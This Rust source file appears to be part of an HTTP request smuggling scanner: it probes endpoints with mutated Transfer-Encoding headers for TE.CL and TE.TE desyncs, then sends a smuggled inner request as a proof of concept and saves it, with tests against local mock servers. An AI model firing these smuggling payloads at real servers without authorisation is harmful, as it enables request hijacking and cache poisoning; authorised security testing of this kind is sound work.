use desync_core::classify::Outcome;
use tracing::{debug, info};

use crate::mutation::{self, PayloadKind};
use crate::probe::{HostCtx, send_h1};
use crate::report;

/// TE.CL and TE.TE desync tests.
pub async fn run(ctx: &HostCtx) -> bool {
    if !ctx.h1_supported || ctx.cancelled() {
        return false;
    }
    let tecl = run_tecl(ctx).await;
    if tecl && ctx.settings.exit_early {
        return true;
    }
    let tete = run_tete(ctx).await;
    tecl || tete
}

async fn run_tecl(ctx: &HostCtx) -> bool {
    info!(endpoint = %ctx.endpoint, "running TE.CL desync tests");
    let candidates = mutation::generate(PayloadKind::Te, ctx.settings.level);

    let mut found = 0usize;
    for (name, values) in &candidates {
        for value in values {
            if ctx.cancelled() {
                return false;
            }
            let mut line = name.clone();
            line.push(b':');
            line.extend_from_slice(value);
            if tecl_candidate(ctx, line).await {
                found += 1;
                if ctx.settings.exit_early {
                    info!(
                        endpoint = %ctx.endpoint,
                        status = "success",
                        "test stopped on success: PoC payload stored under result/{}",
                        ctx.endpoint.host
                    );
                    ctx.signal_finding();
                    return true;
                }
            }
        }
    }
    if found > 0 {
        info!(
            endpoint = %ctx.endpoint,
            status = "success",
            "finished TE.CL desync tests: PoC payload stored under result/{}",
            ctx.endpoint.host
        );
    } else {
        info!(
            endpoint = %ctx.endpoint,
            status = "failure",
            "finished TE.CL desync tests: no issues found"
        );
    }
    found > 0
}

async fn run_tete(ctx: &HostCtx) -> bool {
    info!(endpoint = %ctx.endpoint, "running TE.TE desync tests");
    let candidates = mutation::generate(PayloadKind::Te, ctx.settings.level);

    let mut found = 0usize;
    for (name, values) in &candidates {
        for value in values {
            if ctx.cancelled() {
                return false;
            }
            let mut line = name.clone();
            line.push(b':');
            line.extend_from_slice(value);
            if tete_candidate(ctx, line).await {
                found += 1;
                if ctx.settings.exit_early {
                    info!(
                        endpoint = %ctx.endpoint,
                        status = "success",
                        "test stopped on success: PoC payload stored under result/{}",
                        ctx.endpoint.host
                    );
                    ctx.signal_finding();
                    return true;
                }
            }
        }
    }
    if found > 0 {
        info!(
            endpoint = %ctx.endpoint,
            status = "success",
            "finished TE.TE desync tests: PoC payload stored under result/{}",
            ctx.endpoint.host
        );
    } else {
        info!(
            endpoint = %ctx.endpoint,
            status = "failure",
            "finished TE.TE desync tests: no issues found"
        );
    }
    found > 0
}

/// One mutated Transfer-Encoding line.
///
/// Body `0\r\n\r\nG`: a terminating zero chunk plus one stray byte. A hop
/// framing by Content-Length 6 waits on nothing further only if its peer
/// framed by the mutated TE and stopped at the zero chunk (timeout); CL=5
/// drops the stray byte and completes everywhere (normal). Three consecutive
/// pairs make a finding.
pub(crate) async fn tecl_candidate(ctx: &HostCtx, line: Vec<u8>) -> bool {
    let mut payload = ctx.base_payload(Some(line));
    payload.body = b"0\r\n\r\nG".to_vec();

    let mut streak = 0u8;
    loop {
        payload.content_length = Some(6);
        let (suspect, _) = send_h1(ctx, &mut payload).await;
        if suspect != Outcome::Timeout {
            if suspect == Outcome::Disconnected {
                debug!(endpoint = %ctx.endpoint, "disconnected before timeout");
            }
            return false;
        }

        payload.content_length = Some(5);
        let (confirm, _) = send_h1(ctx, &mut payload).await;
        match confirm {
            Outcome::SocketError => return false,
            Outcome::Normal => {
                streak += 1;
                if streak < 3 {
                    continue;
                }
                info!(
                    endpoint = %ctx.endpoint,
                    "potential TE.CL issue found - {}@{}",
                    ctx.method, ctx.endpoint
                );
                let inner = ctx.smuggled_inner("/404", "X=");
                let preamble = format!("1\r\nA\r\n{:X}\r\n", inner.len());
                let mut body = preamble.clone().into_bytes();
                body.extend_from_slice(&inner);
                body.extend_from_slice(b"\r\n0\r\n\r\n");
                payload.body = body;
                // The declared length covers only the chunked preamble; the
                // inner request is what the TE-honoring hop leaves queued.
                payload.content_length = Some(preamble.len());
                send_h1(ctx, &mut payload).await;
                send_h1(ctx, &mut payload).await;
                report::write(ctx, &payload.to_escaped_string(), payload.token());
                return true;
            }
            _ => {
                debug!(
                    endpoint = %ctx.endpoint,
                    "TE.CL timeout on both length 5 and 6"
                );
                return false;
            }
        }
    }
}

/// One mutated Transfer-Encoding line, tested for multi-header disagreement.
///
/// Pre-check: a hop honoring this TE line answers 400 to a mangled chunk
/// stream instead of waiting out the oversized Content-Length. Passing that,
/// the line is duplicated; if the same exchange with a well-formed chunked
/// body now hangs, some hop switched to the other copy (or back to CL) and
/// the chain frames requests inconsistently.
pub(crate) async fn tete_candidate(ctx: &HostCtx, line: Vec<u8>) -> bool {
    let mut payload = ctx.base_payload(Some(line.clone()));
    payload.body = b"1\r\nG\r\nX\r\n".to_vec();
    payload.content_length = Some(payload.body.len() + 10);
    let (outcome, status) = send_h1(ctx, &mut payload).await;
    if outcome != Outcome::Normal || status != Some(400) {
        return false;
    }

    let mut doubled = line.clone();
    doubled.extend_from_slice(b"\r\n");
    doubled.extend_from_slice(&line);
    let mut payload = ctx.base_payload(Some(doubled));
    payload.body = b"1\r\nG\r\n0\r\n\r\n".to_vec();
    payload.content_length = Some(payload.body.len() + 10);
    let (outcome, _) = send_h1(ctx, &mut payload).await;
    if outcome != Outcome::Timeout {
        return false;
    }

    info!(
        endpoint = %ctx.endpoint,
        "potential TE.TE issue found - {}@{}",
        ctx.method, ctx.endpoint
    );
    report::write(ctx, &payload.to_escaped_string(), payload.token());
    true
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::probe::HostControl;
    use desync_core::endpoint::Endpoint;
    use desync_core::settings::Settings;
    use std::path::Path;
    use std::sync::Arc;
    use std::time::Duration;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpListener;

    const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    const BAD_REQUEST: &[u8] = b"HTTP/1.1 400 Bad Request\r\nContent-Length: 3\r\n\r\nbad";

    fn make_ctx(url: &str, out_root: &Path, timeout_ms: u64) -> (HostCtx, HostControl) {
        let endpoint = Endpoint::parse(url).unwrap();
        let settings = Arc::new(Settings {
            timeout: Duration::from_millis(timeout_ms),
            ..Settings::default()
        });
        let (mut ctx, control) =
            HostCtx::new(endpoint, "POST".to_string(), settings, out_root.to_path_buf());
        ctx.h2_supported = false;
        (ctx, control)
    }

    fn declared_content_length(request: &[u8]) -> Option<usize> {
        let text = String::from_utf8_lossy(request);
        text.lines()
            .filter_map(|l| l.strip_prefix("Content-Length: "))
            .next_back()
            .and_then(|v| v.trim().parse().ok())
    }

    /// A chain whose front end frames by the mutated TE: CL=6 leaves a stray
    /// byte pending (hang), CL=5 completes. The PoC resend (larger CL) also
    /// completes.
    async fn spawn_tecl_vulnerable_server() -> u16 {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 8192];
                    let n = sock.read(&mut buf).await.unwrap_or(0);
                    match declared_content_length(&buf[..n]) {
                        Some(6) => tokio::time::sleep(Duration::from_secs(3)).await,
                        _ => sock.write_all(OK).await.unwrap_or(()),
                    }
                });
            }
        });
        port
    }

    #[tokio::test]
    async fn test_tecl_candidate_confirms_and_builds_chunked_poc() {
        let port = spawn_tecl_vulnerable_server().await;
        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(&format!("http://127.0.0.1:{port}/"), dir.path(), 400);

        let found = tecl_candidate(&ctx, b" Transfer-Encoding: chunked".to_vec()).await;
        assert!(found);

        let host_dir = dir.path().join("result/127.0.0.1");
        let entries: Vec<_> = std::fs::read_dir(&host_dir).unwrap().collect();
        assert_eq!(entries.len(), 1);
        let poc = std::fs::read_to_string(entries[0].as_ref().unwrap().path()).unwrap();

        // Inner request is hex-length-framed inside the chunked body, and the
        // declared length covers only the preamble.
        let inner = format!(
            "GET /404 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 50\r\n\r\nX="
        );
        let preamble = format!("1\r\nA\r\n{:X}\r\n", inner.len());
        assert!(poc.contains(&format!("{preamble}{inner}\r\n0\r\n\r\n")));
        assert!(poc.contains(&format!("Content-Length: {}\r\n", preamble.len())));
    }

    #[tokio::test]
    async fn test_tecl_candidate_discards_compliant_server() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                let mut buf = vec![0u8; 8192];
                let _ = sock.read(&mut buf).await;
                let _ = sock.write_all(OK).await;
            }
        });

        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(&format!("http://127.0.0.1:{port}/"), dir.path(), 400);
        assert!(!tecl_candidate(&ctx, b"Transfer-Encoding: chunked".to_vec()).await);
    }

    /// TE honored (400 on the mangled chunk), and the duplicated header flips
    /// the hop into hanging on the same body.
    #[tokio::test]
    async fn test_tete_candidate_detects_duplicate_header_flip() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 8192];
                    let n = sock.read(&mut buf).await.unwrap_or(0);
                    let text = String::from_utf8_lossy(&buf[..n]).into_owned();
                    let te_copies = text.matches("Transfer-Encoding").count();
                    if te_copies >= 2 {
                        tokio::time::sleep(Duration::from_secs(3)).await;
                    } else if text.contains("1\r\nG\r\nX\r\n") {
                        let _ = sock.write_all(BAD_REQUEST).await;
                    } else {
                        let _ = sock.write_all(OK).await;
                    }
                });
            }
        });

        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(&format!("http://127.0.0.1:{port}/"), dir.path(), 400);
        let found = tete_candidate(&ctx, b"Transfer-Encoding: chunked".to_vec()).await;
        assert!(found);
        assert!(dir.path().join("result/127.0.0.1").exists());
    }

    #[tokio::test]
    async fn test_tete_candidate_skips_when_precheck_not_400() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = listener.accept().await.unwrap();
                let mut buf = vec![0u8; 8192];
                let _ = sock.read(&mut buf).await;
                let _ = sock.write_all(OK).await;
            }
        });

        let dir = tempfile::tempdir().unwrap();
        let (ctx, _control) = make_ctx(&format!("http://127.0.0.1:{port}/"), dir.path(), 400);
        assert!(!tete_candidate(&ctx, b"Transfer-Encoding: chunked".to_vec()).await);
        assert!(!dir.path().join("result").exists());
    }
}
